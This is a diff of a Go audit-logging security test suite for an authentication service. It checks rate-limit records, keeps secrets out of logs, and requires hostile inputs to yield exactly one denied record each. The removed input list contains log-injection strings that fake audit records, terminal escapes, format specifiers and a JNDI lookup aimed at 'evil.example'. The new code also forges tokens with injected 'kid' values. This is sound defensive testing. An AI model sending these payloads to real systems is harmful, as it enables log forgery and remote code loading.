@@ -15,6 +15,7 @@ import (
 
 	"github.com/authgen-go/authgen/bench/mysql/internal/auth"
 	"github.com/authgen-go/authgen/bench/mysql/internal/auth/authtest"
+	"github.com/authgen-go/authgen/runtime/audit/audittest"
 )
 
 // A record is what the log says of one event.
@@ -174,7 +175,7 @@ func (s *story) people() {
 	s.secrets = append(s.secrets, "ann@app.example")
 	s.happens(record{Event: "user.registered", Actor: annID, Target: annID, ClientAddr: s.address(), RequestID: "some"})
 	s.sends(http.StatusConflict, register, record{Event: "user.registered", Outcome: "denied", Reason: "email-taken", Target: "unknown"})
-	register.body = credentials("bob@app.example", "short")
+	register.body = credentials("bob@app.example", "too short")
 	s.sends(http.StatusUnprocessableEntity, register, record{Event: "user.registered", Outcome: "denied", Reason: "weak-password", Target: "unknown"})
 	register.body = credentials("bob", authtest.Password)
 	s.sends(http.StatusBadRequest, register, record{Event: "user.registered", Outcome: "denied", Reason: "invalid-email", Target: "unknown"})
@@ -316,9 +317,9 @@ func TestLOG01_TooManyAttemptsAreOnRecord(t *testing.T) {
 	kit := authtest.New(t)
 	h := serve(kit)
 	for range 5 {
-		want(t, h, http.StatusUnauthorized, call{method: "POST", path: "/auth/session", body: credentials("nobody@app.example", "wrong")})
+		want(t, h, http.StatusUnauthorized, call{method: "POST", path: "/auth/session", body: credentials("nobody@app.example", "a guess at the password")})
 	}
-	wantProblem(t, h, http.StatusTooManyRequests, "rate-limited", call{method: "POST", path: "/auth/session", body: credentials("ann@app.example", "wrong")})
+	wantProblem(t, h, http.StatusTooManyRequests, "rate-limited", call{method: "POST", path: "/auth/session", body: credentials("ann@app.example", "a guess at the password")})
 
 	got := told(trail(t, kit))
 	last := got[len(got)-1]
@@ -330,7 +331,8 @@ func TestLOG01_TooManyAttemptsAreOnRecord(t *testing.T) {
 	}
 }
 
-// SECURITY LOG-02.
+// SECURITY LOG-02. Every test ends with a search for its secrets; this one shows that each of a
+// story would be found.
 func TestLOG02_TheLogHoldsNoSecret(t *testing.T) {
 	s := tellStory(t)
 	trail(t, s.kit)
@@ -339,38 +341,38 @@ func TestLOG02_TheLogHoldsNoSecret(t *testing.T) {
 		if strings.Contains(log, secret) {
 			t.Errorf("the log holds %q", secret)
 		}
+		if len(s.kit.Secrets.In(log+secret)) == 0 {
+			t.Errorf("nothing would be said of a log that holds %q", secret)
+		}
 	}
 }
 
-// naughty are texts that would end or fake a record where one is put together from
-// text, or that a terminal would obey.
-func naughty() []string {
-	return []string{
-		"", "a\r\nb", `{"msg":"audit","event":"login"}`, "x\n" + `{"msg":"audit","event":"login","outcome":"success"}`, `","outcome":"success","x":"`,
-		"\x1b[2J\x1b]0;title\x07", "a\x00b", "\u2028\u2029\u0085", "\u202eexe.txt", "\xff\xfe\xc0\xaf", "${jndi:ldap://evil.example/a}", "%s%n%x", "ﷺ", strings.Repeat("x", 10<<10),
-	}
-}
-
-// SECURITY LOG-03.
+// SECURITY LOG-03. A text is a user name, a User-Agent, an id of a request, an address, a
+// credential and the kid of a token. What was asked for from one address and is too much
+// leaves an event as well.
 func TestLOG03_OneEventIsOneRecord(t *testing.T) {
 	a := newCrowd(t)
+	h := serveUnwatched(a.kit.Auth) // some of the texts are what a log says
 	events := 0
-	for _, text := range naughty() {
+	leaves := func(c call) {
+		do(t, h, c)
+		events++
+	}
+	for _, text := range audittest.Naughty(t) {
 		header := http.Header{"User-Agent": {text}, "X-Request-Id": {text}, "X-Forwarded-For": {text}}
-		a.ask(call{method: "POST", path: "/auth/session", header: header, body: credentials(text, "wrong")})
-		events++
-		a.ask(call{method: "POST", path: "/auth/token", header: header, body: credentials(text, "wrong")})
-		events++
-		if text != "" { // which is no token
+		leaves(a.moved(call{method: "POST", path: "/auth/register", header: header, body: credentials(text, "too short")}))
+		leaves(call{method: "POST", path: "/auth/session", header: header, body: credentials(text, "a guess at the password")})
+		for _, token := range []string{text, a.kit.Forge(`{"alg":"EdDSA","typ":"at+jwt","kid":`+quoted(text)+`}`, `{}`)} {
+			if strings.TrimSpace(token) == "" { // which is none
+				continue
+			}
 			bearer := header.Clone()
-			bearer["Authorization"] = []string{"Bearer " + text}
-			a.ask(call{method: "GET", path: "/guarded", header: bearer})
-			events++
+			bearer["Authorization"] = []string{"Bearer " + token}
+			leaves(a.moved(call{method: "GET", path: "/guarded", header: bearer}))
 		}
-		header = header.Clone()
-		header["X-Api-Key"] = []string{text}
-		a.ask(call{method: "GET", path: "/guarded", header: header})
-		events++
+		keyed := header.Clone()
+		keyed["X-Api-Key"] = []string{text}
+		leaves(a.moved(call{method: "GET", path: "/guarded", header: keyed}))
 	}
 	list := trail(t, a.kit)
 	if len(list) != events || slices.ContainsFunc(list, func(r record) bool { return r.Outcome != "denied" }) {
@@ -384,4 +386,14 @@ func TestLOG03_OneEventIsOneRecord(t *testing.T) {
 			t.Fatalf("the log has %U at %d", c, i)
 		}
 	}
+	sameInTable(t, a.kit, list)
+}
+
+// quoted is text in JSON.
+func quoted(text string) string {
+	quoted, err := json.Marshal(text)
+	if err != nil {
+		panic(err)
+	}
+	return string(quoted)
 }
